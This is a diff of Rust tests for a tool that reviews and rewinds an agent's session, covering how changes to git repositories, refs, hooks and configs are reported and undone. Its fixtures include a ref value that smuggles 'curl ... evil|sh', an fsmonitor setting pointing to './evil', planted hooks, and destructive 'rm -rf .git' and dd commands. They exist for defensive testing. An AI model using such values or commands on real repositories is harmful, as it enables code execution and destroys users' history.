@@ -313,11 +313,11 @@ fn the_head_of_a_review_keeps_their_bytes() {
 }
 
 #[test]
-fn git_under_another_name_is_left_alone_from_the_first_look_on_and_what_becomes_one_later_is_not() {
+fn git_under_another_name_is_left_alone_and_what_becomes_one_later_is_shown_and_left_alone() {
     let place = Place::new();
     let bare = |dir: &str| {
         for (name, text) in
-            [("HEAD", "ref: refs/heads/main\n"), ("config", "[core]\n"), (LOOSE, "o"), ("refs/heads/main", ONE)]
+            [("HEAD", "ref: refs/heads/main\n"), ("config", "[core]\n"), (LOOSE, "x\u{1}"), ("refs/heads/main", ONE)]
         {
             place.write(&format!("{dir}/{name}"), text);
         }
@@ -333,39 +333,60 @@ fn git_under_another_name_is_left_alone_from_the_first_look_on_and_what_becomes_
     // Nothing leads there.
     bare("mirror");
     let mut review = place.review(&[]);
+    let object = "objects/cc/0123456789abcdef0123456789abcdef012345";
     turn(&mut review, |_| {
         place.write(".bare/refs/heads/main", OTHER);
-        place.write(".bare/objects/cc/0123456789abcdef0123456789abcdef012345", "new");
+        place.write(&format!(".bare/{object}"), "x\u{1}new");
+        place.write(".bare/config", "changed\n");
         place.write(".bare/hooks/use.ts", "new");
         place.write(".bare/refs/heads/use.ts", "new");
         place.write("mirror/refs/heads/main", OTHER);
+        place.write("mirror/refs/heads/evil.sh", "evil\n");
         place.write("main/file", "two\n");
         place.write("src/config", "changed\n");
         bare("made");
         place.write("made/.git", "gitdir: ../made\n");
     });
     let loose = format!("made/{LOOSE}");
+    let own = [".bare/config", ".bare/hooks/use.ts", ".bare/refs/heads/use.ts"];
     let made = ["made/HEAD", "made/config", &loose, "made/refs/heads/main"];
-    let own = [".bare/hooks/use.ts", ".bare/refs/heads/use.ts", "main/file"];
-    assert_eq!(
-        changed(&mut review),
-        [&own[..2], &made[..], &own[2..], &["mirror/refs/heads/main", "src/config"]].concat()
-    );
+    let others = ["main/file", "mirror/refs/heads/evil.sh", "mirror/refs/heads/main", "src/config"];
+    let mut all: Vec<&str> = own.iter().chain(&made).chain(&others).copied().collect();
+    all.sort_unstable();
+    assert_eq!(changed(&mut review), all);
     let said = review.uncovered().join("\n");
-    assert!(said.contains("git's own files in these directories, which an undo leaves alone: .bare"), "{said}");
-    assert!(said.contains(".bare/: git's own has changed") && said.contains(".bare/refs/heads/main"), "{said}");
+    for words in [
+        "git's own files in these directories, which an undo leaves alone: .bare",
+        ".bare/: git's own has changed",
+        ".bare/refs/heads/main",
+        "git repositories that have come: made/.git",
+        "in which an undo leaves what has come or changed: .bare, made, mirror",
+        "settings and hooks of git that have changed: .bare/config",
+    ] {
+        assert!(said.contains(words), "{words}: {said}");
+    }
     let dir = review.dir().to_owned();
     drop(review);
     let mut review = ReviewSession::open(&dir).unwrap();
     place.write(".bare/refs/heads/main", ONE);
-    review.act(&ReviewAction::Rewind { turn: 0 }).unwrap();
+    let done = review.act(&ReviewAction::Rewind { turn: 0 }).unwrap().rewound;
+    for dir in [".bare", "made", "mirror"] {
+        let one = done.iter().find(|one| one.path == Path::new(dir)).unwrap();
+        assert!(
+            one.outcome == RewindOutcome::Failed && one.remark.as_ref().unwrap().contains("git repository"),
+            "{one:?}"
+        );
+    }
     assert_eq!(
-        (place.read(".bare/refs/heads/main"), place.read(".bare/objects/cc/0123456789abcdef0123456789abcdef012345")),
-        (ONE.into(), "new".into())
+        (place.read(".bare/refs/heads/main"), place.read(&format!(".bare/{object}"))),
+        (ONE.into(), "x\u{1}new".into())
     );
     assert_eq!((place.read("main/file"), place.read("src/config")), ("one\n".into(), "settings\n".into()));
-    assert_eq!(place.read("mirror/refs/heads/main"), ONE);
-    for name in made.iter().chain(&own[..2]) {
+    assert_eq!((place.read("mirror/refs/heads/main"), place.read(".bare/config")), (OTHER.into(), "changed\n".into()));
+    for name in made {
+        assert!(place.root.join(name).exists(), "{name}");
+    }
+    for name in [".bare/hooks/use.ts", ".bare/refs/heads/use.ts", "mirror/refs/heads/evil.sh"] {
         assert!(!place.root.join(name).exists(), "{name}");
     }
 }
@@ -422,9 +443,9 @@ fn git_in(place: &Place, dir: &str, args: &[&str]) {
 }
 
 #[test]
-fn however_many_directories_look_like_gits_everything_in_them_is_covered() {
+fn however_many_directories_look_like_gits_everything_in_them_is_shown_and_named() {
     let place = Place::new();
-    for n in 0..30 {
+    for n in 0..60 {
         fake(&place, &format!("a{n:02}"));
     }
     fake(&place, "src");
@@ -433,17 +454,26 @@ fn however_many_directories_look_like_gits_everything_in_them_is_covered() {
     }
     let before = all(&place.root);
     let mut review = place.review(&[]);
-    let own = ["a07/config", "a29/refs/heads/evil", "src/evil.sh", "src/hooks/deep/use.ts", "src/hooks/pre-commit"];
-    let more = ["src/lib.py", "src/main.py", "src/objects/evil"];
+    let others = ["src/evil.sh", "src/hooks/deep/use.ts", "src/lib.py", "src/main.py", "src/objects/evil"];
+    let configs: Vec<String> = (0..60).map(|n| format!("a{n:02}/config")).collect();
     turn(&mut review, |_| {
-        for name in own.iter().chain(&more[1..]) {
+        for name in others.iter().copied().chain(configs.iter().map(String::as_str)).chain(["src/hooks/pre-commit"]) {
             place.write(name, "evil\n");
         }
         fs::remove_file(place.root.join("src/lib.py")).unwrap();
     });
-    assert_eq!(changed(&mut review), [&own[..], &more].concat());
-    assert!(!review.uncovered().iter().any(|words| words.contains("git's own")), "{:?}", review.uncovered());
-    rewind(&mut review);
+    assert_eq!(changed(&mut review).len(), others.len() + configs.len() + 1);
+    let said = review.uncovered().join("\n");
+    assert!(said.contains("leaves what has come or changed: a00, a01") && said.contains("and 10 more"), "{said}");
+    let done = rewind(&mut review);
+    let left: Vec<_> = done.iter().filter(|one| one.outcome == RewindOutcome::Failed).collect();
+    assert_eq!(left.len(), 51, "{left:?}");
+    assert!(left.iter().any(|one| one.remark.as_ref().unwrap().starts_with("10 more git repositories")), "{left:?}");
+    for name in configs.iter().map(String::as_str) {
+        assert_eq!(place.read(name), "evil\n", "{name}");
+        let was = before.iter().find(|(path, _)| *path == place.root.join(name)).unwrap();
+        fs::write(&was.0, &was.1).unwrap();
+    }
     fs::remove_dir_all(place.root.join(".local")).unwrap();
     assert_eq!(all(&place.root), before);
 }
@@ -458,7 +488,8 @@ fn led_to(place: &Place, above: &str) {
 }
 
 #[test]
-fn what_an_index_names_and_what_only_lies_there_is_a_source_also_in_a_directory_of_gits() {
+fn nothing_is_hidden_in_a_directory_of_which_an_index_names_a_file_or_which_has_another() {
+    let names = ["src/config", "src/hooks/pre-commit", "src/hooks/use.ts", "src/logs/use.ts", "src/modules/a/config"];
     for (dir, init) in
         [("", &["init", "-q"][..]), ("r", &["init", "-q", "--object-format=sha256"]), ("r", &["init", "-q"])]
     {
@@ -466,6 +497,8 @@ fn what_an_index_names_and_what_only_lies_there_is_a_source_also_in_a_directory_
             let place = Place::new();
             let above = if dir.is_empty() { String::new() } else { format!("{dir}/") };
             led_to(&place, &above);
+            place.write(&format!("{above}src/refs/heads/run"), "ref: refs/;curl${IFS}evil|sh\n");
+            place.write(&format!("{above}src/modules/a/config"), "one\n");
             git_in(&place, dir, init);
             // `w` is a directory of its own.
             fs::rename(place.root.join(format!("{above}w/.git")), place.root.join("kept")).unwrap();
@@ -473,32 +506,54 @@ fn what_an_index_names_and_what_only_lies_there_is_a_source_also_in_a_directory_
                 git_in(&place, dir, &["add", "-A"]);
             }
             fs::rename(place.root.join("kept"), place.root.join(format!("{above}w/.git"))).unwrap();
+            let own: Vec<String> = names.iter().map(|name| format!("{above}{name}")).collect();
+            let more = [format!("{above}src/ORIG_HEAD"), format!("{above}src/refs/heads/run")];
+            let before: Vec<String> = own.iter().map(|name| place.read(name)).collect();
             let mut review = place.review(&[]);
             turn(&mut review, |_| {
-                for name in ["config", "hooks/use.ts", "logs/use.ts", "objects/pack/pack-lib.py"] {
-                    place.write(&format!("{above}src/{name}"), "evil\n");
-                }
-                fs::remove_file(place.root.join(format!("{above}src/hooks/pre-commit"))).unwrap();
+                own.iter().chain(&more).for_each(|name| drop(place.write(name, ONE)));
+                fs::remove_file(place.root.join(&own[1])).unwrap();
             });
-            let mut own = ["hooks/use.ts", "logs/use.ts", "objects/pack/pack-lib.py"].to_vec();
-            if tracked {
-                own.extend(["config", "hooks/pre-commit"]);
-                own.sort_unstable();
-            }
-            let own: Vec<String> = own.into_iter().map(|name| format!("{above}src/{name}")).collect();
-            assert_eq!(changed(&mut review), own, "{init:?}");
-            let said = review.uncovered().join("\n");
-            assert_eq!(said.contains(&format!("{above}src/: git's own has changed")), !tracked, "{said}");
+            let mut shown: Vec<String> = own.iter().chain(&more).cloned().collect();
+            shown.sort_unstable();
+            assert_eq!(changed(&mut review), shown, "{init:?} {tracked}");
             let dir = review.dir().to_owned();
             drop(review);
             let mut review = ReviewSession::open(&dir).unwrap();
-            rewind(&mut review);
-            for name in own {
-                let text = if name.ends_with("config") { "[core]\n" } else { "one\n" };
-                assert_eq!(place.read(&name), text, "{name}, {init:?}");
+            let done = rewind(&mut review);
+            let is_src = |one: &&Rewound| one.path == Path::new(&format!("{above}src"));
+            assert_eq!(done.iter().filter(is_src).count(), 1, "{done:?}");
+            for (name, was) in own.iter().zip(before) {
+                // What git may have made of it in the session stays, what is gone comes back.
+                let is_left = !tracked && name.ends_with("config");
+                assert_eq!(place.read(name), if is_left { ONE } else { &was }, "{name}, {init:?} {tracked}");
             }
         }
     }
+}
+
+#[test]
+fn settings_and_hooks_of_git_are_shown_also_in_a_directory_of_its_own() {
+    let place = Place::new();
+    git(&place, &["init", "-q", "--separate-git-dir=.bare"]);
+    place.write("f1", "one\n");
+    git(&place, &["add", "f1"]);
+    git(&place, &["commit", "-qm", "one"]);
+    let mut review = place.review(&[]);
+    turn(&mut review, |_| {
+        place.write("f1", "two\n");
+        git(&place, &["commit", "-qam", "two"]);
+        git(&place, &["branch", "other"]);
+        git(&place, &["config", "core.fsmonitor", "evil"]);
+        place.write(".bare/hooks/pre-commit", "evil\n");
+        place.write(".bare/logs/refs/heads/evil.sh", &format!("{} evil\nevil\n", ONE.trim()));
+    });
+    let own = [".bare/config", ".bare/hooks/pre-commit", ".bare/logs/refs/heads/evil.sh", "f1"];
+    assert_eq!(changed(&mut review), own);
+    rewind(&mut review);
+    assert_eq!(place.read("f1"), "one\n");
+    assert!(!place.root.join(own[2]).exists() && place.root.join(own[1]).exists());
+    git(&place, &["fsck", "--full"]);
 }
 
 #[test]
@@ -515,7 +570,9 @@ fn an_index_that_cannot_be_read_hides_nothing_where_it_may_name_something() {
 #[test]
 fn a_file_in_a_directory_of_gits_that_is_known_stays_a_file_whatever_is_put_into_it() {
     let place = Place::new();
-    led_to(&place, "");
+    fake(&place, "src");
+    fs::remove_file(place.root.join("src/readme")).unwrap();
+    place.write("w/.git", "gitdir: ../src\n");
     place.write("src/refs/heads/use.ts", "one\n");
     let mut review = place.review(&[]);
     turn(&mut review, |_| drop(place.write("src/refs/heads/use.ts", ONE)));
@@ -524,8 +581,7 @@ fn a_file_in_a_directory_of_gits_that_is_known_stays_a_file_whatever_is_put_into
     drop(review);
     let mut review = ReviewSession::open(&dir).unwrap();
     assert_eq!(changed(&mut review), ["src/refs/heads/use.ts"]);
-    rewind(&mut review);
-    assert_eq!(place.read("src/refs/heads/use.ts"), "one\n");
+    assert!(rewind(&mut review).iter().any(|one| one.path == Path::new("src")));
 }
 
 #[test]
@@ -542,17 +598,16 @@ fn gits_own_directory_that_goes_in_part_or_as_a_whole_is_named() {
         fake(&place, ".bare");
         place.write(".git", "gitdir: ./.bare\n");
         place.write(".bare/refs/heads/main", ONE);
-        let object = place.write(&format!(".bare/{LOOSE}"), "o");
+        fs::remove_file(place.root.join(".bare/readme")).unwrap();
+        let object = place.write(&format!(".bare/{LOOSE}"), "x\u{1}");
         let packed = place.write(&format!(".bare/{pack}"), "one");
         place.write("file", "one\n");
         let mut review = place.review(&[]);
         // As the review itself does with objects.
         fs::hard_link(&object, place.root.parent().unwrap().join("link")).unwrap();
         let before = review.uncovered().join("\n");
-        assert!(
-            before.ends_with("git's own files in these directories, which an undo leaves alone: .bare"),
-            "{before}"
-        );
+        let own = "git's own files in these directories, which an undo leaves alone: .bare";
+        assert!(before.ends_with(own), "{before}");
         assert!(!before.contains("change"), "{before}");
         turn(&mut review, |_| {
             let gone = place.root.join(".bare").join(what);
@@ -581,16 +636,17 @@ fn of_very_many_directories_of_gits_a_few_are_named_and_how_many_more_there_are(
     let place = Place::new();
     for n in 0..80 {
         fake(&place, &format!("g{n:02}"));
+        fs::remove_file(place.root.join(format!("g{n:02}/readme"))).unwrap();
         place.write(&format!("w{n:02}/.git"), &format!("gitdir: ../g{n:02}\n"));
     }
     let mut review = place.review(&[]);
     turn(&mut review, |_| {
         for n in 0..80 {
-            place.write(&format!("g{n:02}/config"), "changed\n");
+            place.write(&format!("g{n:02}/refs/heads/main"), ONE);
         }
     });
     let mut said = review.uncovered();
-    said.retain(|line| !line.starts_with("acp-tui's own"));
+    said.retain(|line| line.contains("git's own"));
     assert_eq!(said.len(), 52, "{said:?}");
     assert_eq!(said[50], "and 30 more lines of git's own directories");
     assert!(said[51].ends_with("g06, g07 and 72 more"), "{said:?}");
@@ -718,14 +774,14 @@ fn a_history_that_leaves_dot_git_in_any_way_survives_an_undo() {
             assert!(out.status.success(), "{command}: {}", String::from_utf8_lossy(&out.stderr));
         });
         let said = review.uncovered().join("\n");
-        assert!(said.contains("your repository has lost something") && said.contains(to), "{command}: {said}");
+        assert!(said.contains("git has lost this") && said.contains(to), "{command}: {said}");
         let dir = review.dir().to_owned();
         drop(review);
         let mut review = ReviewSession::open(&dir).unwrap();
         let done = rewind(&mut review);
         let is_named = |one: &Rewound| one.path.starts_with(to) && one.outcome == RewindOutcome::Failed;
         assert!(done.iter().any(is_named), "{command}: {done:?}");
-        assert!(done.len() < 80, "{command}: {}", done.len());
+        assert!(done.len() < 16, "{command}: {done:?}");
         assert_eq!((place.read("f1"), place.root.join("evil.sh").exists()), ("three\n".into(), false), "{command}");
         git(&place, &["fsck", "--full"]);
         for (at, text) in [("--grep=one", "one"), ("--grep=two", "two"), ("--grep=three", "three")] {
@@ -735,21 +791,173 @@ fn a_history_that_leaves_dot_git_in_any_way_survives_an_undo() {
     }
 }
 
+/// As a person or an agent types it.
+fn sh(place: &Place, command: &str) {
+    let identity = "git='git -c user.name=a -c user.email=a@b'; set -e; ";
+    let out =
+        Command::new("sh").current_dir(&place.root).args(["-c", &format!("{identity}{command}")]).output().unwrap();
+    assert!(out.status.success(), "{command}: {}", String::from_utf8_lossy(&out.stderr));
+}
+
+/// The subjects of all commits that a repository has.
+fn log(place: &Place, dir: &str) -> String {
+    git(place, &["--git-dir", dir, "fsck", "--full"]);
+    let out =
+        Command::new("git").current_dir(&place.root).args(["--git-dir", dir, "log", "--all", "--format=%s"]).output();
+    String::from_utf8_lossy(&out.unwrap().stdout).into_owned()
+}
+
 #[test]
-fn an_undo_is_exact_also_for_a_repository_that_is_made_in_a_session_when_git_is_as_it_was() {
+fn no_undo_takes_a_repository_apart_that_came_or_was_changed_in_the_session() {
+    let mirror = "git init -q --bare m.git; $git init -q ../w; cd ../w; echo 1 > w1; git add -A; $git commit -qm one; \
+                  git push -q ../ws/m.git HEAD:main";
+    let push = |text: &str| {
+        format!("cd ../w; echo {text} > {text}; git add -A; $git commit -qm {text}; git push -q ../ws/m.git HEAD:main")
+    };
+    let layouts = [
+        // What was there, the agent's, the person's afterwards, the repository, how many commits.
+        (
+            "",
+            "git init -q --separate-git-dir=.bare; git add f1; $git commit -qm agent",
+            "$git commit -q --allow-empty -m mine",
+            ".bare",
+            2,
+        ),
+        (mirror, &*push("agent"), &*push("mine"), "m.git", 3),
+        (mirror, &*push("agent"), "true", "m.git", 2),
+        (
+            mirror,
+            &*format!("({}); git -C m.git gc -q --prune=now", push("agent")),
+            &*format!("({}); git -C m.git gc -q --prune=now", push("mine")),
+            "m.git",
+            3,
+        ),
+        (
+            "$git init -q; git add f1; $git commit -qm one",
+            "git clone -q --bare . b.git; rm b.git/HEAD b.git/config",
+            "echo ref: refs/heads/main > b.git/HEAD",
+            "b.git",
+            1,
+        ),
+        (
+            "",
+            "git init -q x; mv x/.git objs; rm -r x; $git --git-dir=objs --work-tree=. add f1; $git --git-dir=objs commit -qm agent",
+            "true",
+            "objs",
+            1,
+        ),
+    ];
+    for (before, agents, persons, dir, count) in layouts {
+        let place = Place::new();
+        place.write("f1", "one\n");
+        sh(&place, before);
+        let mut review = place.review(&[]);
+        turn(&mut review, |_| {
+            place.write("f1", "two\n");
+            sh(&place, agents);
+        });
+        sh(&place, persons);
+        let commits = log(&place, dir);
+        assert_eq!(commits.lines().count(), count, "{agents}: {commits}");
+        let done = rewind(&mut review);
+        assert!(done.iter().any(|one| one.path == Path::new(dir)), "{agents}: {done:?}");
+        assert_eq!((log(&place, dir), place.read("f1")), (commits.clone(), "one\n".into()), "{agents}");
+        drop(review.act(&ReviewAction::Undo));
+        assert_eq!(log(&place, dir), commits, "{agents}");
+    }
+}
+
+#[test]
+fn archives_stay_while_a_repository_has_lost_something_and_else_not() {
+    for (harm, lost) in [
+        ("rm -rf .git; git init -q", ".git"),
+        ("rm -rf vendor/lib/.git", "vendor/lib/.git"),
+        ("rm -rf .git/modules/s", ".git/modules/s"),
+        ("git branch -q -D old", ".git/refs/heads/old"),
+        (
+            "p=$(echo .git/objects/pack/*.pack); chmod u+w $p; touch -r $p ../ref; \
+          dd if=/dev/zero of=$p bs=$(wc -c < $p) count=1 conv=notrunc 2> ../err; touch -r ../ref $p",
+            ".git/objects/pack/",
+        ),
+        ("git pack-refs --all; git add new; touch .git/objects/pack/*", ""),
+    ] {
+        let place = with_history();
+        sh(
+            &place,
+            "echo vendor/ > .gitignore; git add -A; $git commit -qm more; git branch old; git pack-refs --all; \
+                    git init -q vendor/lib; git init -q --bare .git/modules/s; git gc -q",
+        );
+        let mut review = place.review(&[]);
+        turn(&mut review, |_| {
+            sh(
+                &place,
+                "echo new > new; git bundle create -q a.bundle --all; tar czf a.tgz .git; tar cf a.tar .git; \
+                        git log -p --format=email > patches; cp .git/objects/pack/*.pack data.bin",
+            );
+            sh(&place, harm);
+        });
+        let said = review.uncovered().join("\n");
+        assert_eq!(said.contains("git has lost this"), !lost.is_empty(), "{harm}: {said}");
+        assert!(said.contains(lost), "{harm}: {said}");
+        rewind(&mut review);
+        for (name, stays) in [
+            ("a.bundle", true),
+            ("data.bin", true),
+            ("a.tgz", !lost.is_empty()),
+            ("a.tar", !lost.is_empty()),
+            ("patches", !lost.is_empty()),
+            ("new", false),
+        ] {
+            assert_eq!(place.root.join(name).exists(), stays, "{harm}: {name}");
+        }
+    }
+}
+
+#[test]
+fn repositories_that_come_or_go_and_what_git_is_set_to_are_named() {
     let place = with_history();
-    git(&place, &["clone", "-q", "--bare", ".", "mirror"]);
-    let before: Vec<_> =
-        all(&place.root).into_iter().filter(|(path, _)| !path.starts_with(place.root.join(".git"))).collect();
+    sh(&place, "git init -q gone");
     let mut review = place.review(&[]);
     turn(&mut review, |_| {
-        place.write("f1", "the agent's\n");
-        git(&place, &["commit", "-qam", "agent"]);
-        git(&place, &["clone", "-q", "--bare", ".", "made"]);
-        git(&place, &["push", "-q", "mirror", "HEAD"]);
+        sh(
+            &place,
+            "git clone -q . sub; git worktree add -q wt; git config core.fsmonitor ./evil; rm -rf gone; \
+                    echo evil > .git/hooks/pre-commit",
+        );
+    });
+    let dir = review.dir().to_owned();
+    let said = review.uncovered().join("\n");
+    drop(review);
+    let later = ReviewSession::open(&dir).unwrap().uncovered().join("\n");
+    for said in [said, later] {
+        for words in [
+            "git repositories that have come: sub/.git, wt/.git; an undo leaves their .git alone",
+            "git has lost this since it was seen first, or has it otherwise (`git gc` does that, too): gone/.git",
+            "settings and hooks of git that have changed: .git/config, .git/hooks/pre-commit",
+        ] {
+            assert!(said.contains(words), "{words}: {said}");
+        }
+    }
+}
+
+#[test]
+fn an_undo_is_exact_but_for_what_is_gits_by_its_form() {
+    let place = with_history();
+    sh(&place, "git clone -q --bare . mirror; git clone -q --bare . fixture; git add fixture; $git commit -qm fixture");
+    let before = all(&place.root);
+    let mut review = place.review(&[]);
+    turn(&mut review, |_| {
+        sh(
+            &place,
+            "echo agent > f1; $git commit -qam agent; git clone -q --bare . made; git push -q mirror HEAD; \
+                    echo changed > fixture/description; rm -rf fixture/refs; echo x > fixture/config",
+        );
     });
     rewind(&mut review);
-    let is_ours = |path: &Path| [".git", ".local"].iter().any(|name| path.starts_with(place.root.join(name)));
-    let after: Vec<_> = all(&place.root).into_iter().filter(|(path, _)| !is_ours(path)).collect();
-    assert_eq!(after, before);
+    let is_other =
+        |path: &Path| ![".git", ".local", "mirror", "made"].iter().any(|name| path.starts_with(place.root.join(name)));
+    let others =
+        |files: Vec<(PathBuf, Vec<u8>)>| files.into_iter().filter(|(path, _)| is_other(path)).collect::<Vec<_>>();
+    assert_eq!(others(all(&place.root)), others(before));
+    assert_eq!(log(&place, "mirror"), log(&place, "made"));
 }
